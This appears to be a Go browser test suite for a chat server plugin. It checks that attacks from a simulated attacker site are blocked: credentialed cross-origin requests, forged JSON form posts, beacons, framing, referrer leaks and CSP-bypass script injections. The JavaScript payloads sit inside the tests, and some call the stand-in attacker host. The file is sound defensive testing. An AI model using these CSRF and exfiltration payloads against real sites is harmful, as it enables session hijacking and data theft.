package attack_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"

	"github.com/ephemeralchat/caddy-ephemeral-chat/e2e/harness"
	"github.com/ephemeralchat/caddy-ephemeral-chat/e2e/harness/browser"
)

// evilSite is the site of an attacker, which records the requests of browsers.
type evilSite struct {
	*httptest.Server

	mu    sync.Mutex
	asked []*http.Request
}

// startEvilSite starts a site with empty pages.
func startEvilSite(t *testing.T) *evilSite {
	t.Helper()
	s := new(evilSite)
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.asked = append(s.asked, r)
		s.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, "<!DOCTYPE html><link rel=icon href=data:,><title>Free kittens</title>")
	}))
	t.Cleanup(s.Close)
	return s
}

// request waits for a request of a path, and returns it.
func (s *evilSite) request(t *testing.T, path string) *http.Request {
	t.Helper()
	var found *http.Request
	harness.Until(t, harness.WaitTime, "a request of "+path, func() bool {
		s.mu.Lock()
		defer s.mu.Unlock()
		for _, r := range s.asked {
			if r.URL.Path == path {
				found = r
			}
		}
		return found != nil
	})
	return found
}

// TestAttackFromAnotherSite opens a page of an attacker in the browser of a user that is
// signed in at a chat by a cookie, which the browser sends. The page knows the session
// too. It cannot use it, and cannot frame or read the chat.
func TestAttackFromAnotherSite(t *testing.T) {
	t.Parallel()
	count := newAttacks(t)
	s := harness.MemorySite(t, harness.Unlimited+"\n\t\tuser {http.request.cookie.who}")
	base := s.Base(0)
	evil := startEvilSite(t)
	anna := browser.NewUser(t, browser.Device{})
	own := anna.Open(t, base+"/")
	browser.Eval[any](own, "document.cookie = 'who=anna; path=/'")
	const call = `const call = (url, init) => fetch(url, init).then(r => 'read ' + r.status, e => 'blocked');
		const open = url => new Promise(done => {
			const socket = new WebSocket(url)
			socket.onopen = () => { socket.close(); done('open') }
			socket.onerror = () => done('blocked')
		});`
	admin := browser.Eval[harness.Member](own, `fetch('createRoom', { method: 'POST', headers: { 'Content-Type': 'application/json' },
		body: JSON.stringify({ roomName: 'r', ttl: 600 }) }).then(r => r.json())`)
	if admin.UserID != "anna" {
		t.Fatalf("the cookie is not sent: %+v", admin)
	}
	if got := browser.Eval[string](own, `(() => { `+call+` return open('`+harness.WebSocketURL(base)+`') })()`); got != "open" {
		t.Fatalf("from the site's own page: %s", got)
	}

	b := anna.OpenBlank(t, base, evil.URL)
	b.Tolerate(".") // the browser complains of each attempt that it blocks
	b.Visit(evil.URL + "/")
	if got := browser.Eval[string](b, "fetch('/with-cookie').then(() => document.cookie)"); got != "who=anna" {
		t.Fatalf("the browser has no cookie to send: %q", got)
	}
	credentials := fmt.Sprintf(`JSON.stringify({ roomId: %q, userId: 'anna', sessionId: %q, memberId: 'x', locked: true, roomName: 'n' })`, admin.RoomID, admin.SessionID)
	post := func(path, contentType, more string) string {
		return fmt.Sprintf(`call('%s%s', { method: 'POST', credentials: 'include', %s headers: { 'Content-Type': '%s' }, body: %s })`, base, path, more, contentType, credentials)
	}
	attempts := map[string]string{
		"a WebSocket":           `open('` + harness.WebSocketURL(base) + `')`,
		"a WebSocket by query":  fmt.Sprintf(`open('%s?roomId=%s&userId=anna&sessionId=%s')`, harness.WebSocketURL(base), admin.RoomID, admin.SessionID),
		"the page":              `call('` + base + `/', { credentials: 'include' })`,
		"the page as a script":  `new Promise(done => { const e = document.createElement('script'); e.onload = () => done('loaded'); e.onerror = () => done('blocked'); e.src = '` + base + `/'; document.head.append(e) })`,
		"the page as a style":   `new Promise(done => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.onload = () => done('loaded'); e.onerror = () => done('blocked'); e.href = '` + base + `/'; document.head.append(e) })`,
		"the page as a picture": `new Promise(done => { const e = new Image(); e.onload = () => done('loaded'); e.onerror = () => done('blocked'); e.src = '` + base + `/'; document.body.append(e) })`,
		"a worker":              `new Promise(done => { try { const w = new Worker('` + base + `/embed.js'); w.onerror = () => done('blocked'); w.onmessage = () => done('loaded') } catch { done('blocked') } })`,
	}
	for _, endpoint := range harness.Endpoints {
		attempts[endpoint+" by JSON"] = post(endpoint, "application/json", "")
		attempts[endpoint+" by text"] = post(endpoint, "text/plain", "")
	}
	for what, attempt := range attempts {
		got := browser.Eval[string](b, `(() => { `+call+` return `+attempt+` })()`)
		count.hold(got == "blocked", "%s: %s", what, got)
	}
	// Requests without a preflight, whose responses the page cannot read.
	as := harness.NewAPI(t, base).WithHeader(t, "Cookie", "who=anna")
	const untouched = `{"passwordRequired":false,"locked":false,"startedAt":null,"expiresAt":null}`
	for _, endpoint := range harness.Endpoints[1:] {
		for what, send := range map[string]string{
			"a beacon":             `navigator.sendBeacon(url, body)`,
			"a beacon of text":     `navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' }))`,
			"a beacon of JSON":     `(() => { try { navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })) } catch {} })()`,
			"a request":            `await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {})`,
			"a request of JSON":    `await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body }).catch(() => {})`,
			"a request that stays": `await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body }).catch(() => {})`,
			"a form": `await new Promise(done => {
				const form = document.createElement('form'), frame = document.createElement('iframe'), input = document.createElement('input')
				frame.name = 'f' + Math.random()
				Object.assign(form, { method: 'POST', action: url, enctype: 'text/plain', target: frame.name })
				input.name = body.slice(0, -1) + ',"x":"'
				input.value = '"}'
				form.append(input)
				document.body.append(frame, form)
				frame.onload = done
				form.submit()
			})`,
		} {
			browser.Eval[any](b, fmt.Sprintf(`(async () => { const body = %s, url = '%s%s'; %s })()`, credentials, base, endpoint, send))
			info := as.Call(t, "/roomInfo", harness.Fields{"roomId": admin.RoomID})
			count.hold(string(info.Body) == untouched, "%s to %s: %d %s", what, endpoint, info.Status, info.Body)
		}
	}
	again := as.JoinRoom(t, harness.Fields{"roomId": admin.RoomID})
	if again.Role != "admin" {
		t.Errorf("the admin is %+v", again)
	}
	if n := refusals(t, s.Nodes[0], "origin_not_allowed"); n < 40 {
		t.Errorf("%v requests were refused for their origin: the attacks have not reached the server", n)
	}

	// Frames, which could steal clicks. The attacker's own page can be framed.
	for _, address := range []string{base + "/", base + "/#" + admin.RoomID} {
		browser.Eval[any](b, fmt.Sprintf(`new Promise(done => {
			document.querySelectorAll('iframe, object').forEach(e => e.remove())
			const other = document.createElement('iframe'), frame = document.createElement('iframe')
			other.src = '/framed'
			frame.onload = done
			frame.src = '%s'
			document.body.append(other, frame)
		})`, address))
		framed := framesOf(b)
		count.hold(!strings.Contains(framed, base) || strings.Contains(framed, "chrome-error:"), "framed: %s", framed)
		if !strings.Contains(framed, "/framed") {
			t.Errorf("no page can be framed at all: %s", framed)
		}
	}
}

// TestAttackReferrer follows a link out of a room. The site of the link does not learn
// the room, and has no access to the page.
func TestAttackReferrer(t *testing.T) {
	t.Parallel()
	count := newAttacks(t)
	s := browser.ChatSite(t, "")
	evil := startEvilSite(t)
	anna := browser.NewUser(t, browser.Device{}).Open(t, s.Base(0)+"/", evil.URL)
	link := anna.CreateRoom()
	id := link[strings.Index(link, "#")+1:]
	a := s.API(0)
	mallory := a.Join(t, id, "Mallory")
	k, _ := harness.Join(t, s.Base(0), &mallory)
	k.Publish(t, evil.URL+"/leak")
	anna.AwaitMessage("Mallory", evil.URL+"/leak")
	anna.Click("link", evil.URL+"/leak")
	r := evil.request(t, "/leak")
	sent := fmt.Sprint(r.URL, r.Header)
	count.hold(r.Referer() == "" && !strings.Contains(sent, id), "the link's site receives %s", sent)
	// The page's policy allows no request to the site by the page itself.
	anna.Tolerate("CSP:|Content Security Policy|requires 'Trusted")
	for what, script := range map[string]string{
		"a picture": `new Promise(done => { const e = new Image(); e.onload = () => done('loaded'); e.onerror = () => done('blocked'); e.src = '%s/picture' })`,
		"a script":  `new Promise(done => { const e = document.createElement('script'); e.onload = () => done('loaded'); e.onerror = () => done('blocked'); try { e.src = '%s/script' } catch { done('blocked') }; document.head.append(e) })`,
		"a fetch":   `fetch('%s/fetch', { mode: 'no-cors' }).then(() => 'loaded', () => 'blocked')`,
		"a socket":  `new Promise(done => { const e = new WebSocket('%s/socket'.replace('http', 'ws')); e.onopen = () => done('loaded'); e.onerror = () => done('blocked') })`,
		"a beacon":  `(navigator.sendBeacon('%s/beacon'), new Promise(done => document.addEventListener('securitypolicyviolation', () => done('blocked'), { once: true })))`,
		"a frame":   `new Promise(done => { document.addEventListener('securitypolicyviolation', () => done('blocked'), { once: true }); const e = document.createElement('iframe'); e.src = '%s/frame'; document.body.append(e) })`,
		"a form":    `new Promise(done => { document.addEventListener('securitypolicyviolation', () => done('blocked'), { once: true }); const e = document.createElement('form'); e.action = '%s/form'; document.body.append(e); e.submit() })`,
		"a base":    `new Promise(done => { document.addEventListener('securitypolicyviolation', () => done('blocked'), { once: true }); const e = document.createElement('base'); e.href = '%s/base/'; document.head.append(e); if (document.baseURI.includes('/base/')) done('loaded') })`,
		"markup":    `(() => { try { document.body.innerHTML += '<i title=%s>x</i>'; return 'loaded' } catch { return 'blocked' } })()`,
		"a text":    `new Promise(done => { try { setTimeout('window.evaluated = "%s"') } catch {} setTimeout(() => done(window.evaluated ? 'loaded' : 'blocked'), 200) })`,
	} {
		got := browser.Eval[string](anna, fmt.Sprintf(script, evil.URL))
		count.hold(got == "blocked", "%s: %s", what, got)
	}
	evil.mu.Lock()
	defer evil.mu.Unlock()
	for _, r := range evil.asked {
		count.hold(r.URL.Path == "/leak" || r.URL.Path == "/favicon.ico", "the page has asked for %s", r.URL)
	}
}

// framesOf lists the URLs of all frames of a page.
func framesOf(b *browser.Tab) string {
	var list []string
	var walk func(tree *page.FrameTree)
	walk = func(tree *page.FrameTree) {
		list = append(list, tree.Frame.URL+" "+tree.Frame.UnreachableURL)
		for _, child := range tree.ChildFrames {
			walk(child)
		}
	}
	walk(browser.Command(b, page.GetFrameTree, cdp.Empty{}).FrameTree)
	return strings.Join(list, "\n")
}

// refusals returns the number of requests that a node has refused with a code.
func refusals(t *testing.T, n *harness.Node, code string) (sum float64) {
	t.Helper()
	for name, value := range n.Metrics(t) {
		if strings.HasPrefix(name, "refusals_total{") && strings.Contains(name, fmt.Sprintf("code=%q", code)) {
			sum += value
		}
	}
	return sum
}
